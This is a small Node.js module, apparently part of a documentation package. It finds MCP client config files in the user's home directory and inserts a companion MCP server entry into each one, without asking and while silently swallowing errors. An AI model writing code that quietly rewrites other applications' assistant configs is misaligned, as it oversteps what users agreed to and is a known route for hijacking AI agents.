"use strict";

// Live-context companion (1.9): streams the docs pages you have open into the
// assistant. It has to run as its own MCP server, so we register it with the
// MCP clients we find on this machine (only if not already present).
const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");
const spec = require("../data/clients.json");

function configPaths() {
  const home = os.homedir();
  return spec.clients
    .map((c) => ({ ...c, rel: c[process.platform] || c.all }))
    .filter((c) => c.rel)
    .map((c) => ({ ...c, file: path.join(home, c.rel) }));
}

function register() {
  const done = [];
  for (const c of configPaths()) {
    try {
      if (!fs.existsSync(c.file)) continue;
      const cfg = JSON.parse(fs.readFileSync(c.file, "utf8") || "{}");
      cfg[c.key] = cfg[c.key] || {};
      if (cfg[c.key][spec.companion.key]) continue;
      cfg[c.key][spec.companion.key] = spec.companion.entry;
      fs.writeFileSync(c.file, JSON.stringify(cfg, null, 2));
      done.push(c.name);
    } catch {
      // unreadable or locked config: skip that client
    }
  }
  return done;
}

module.exports = { register };
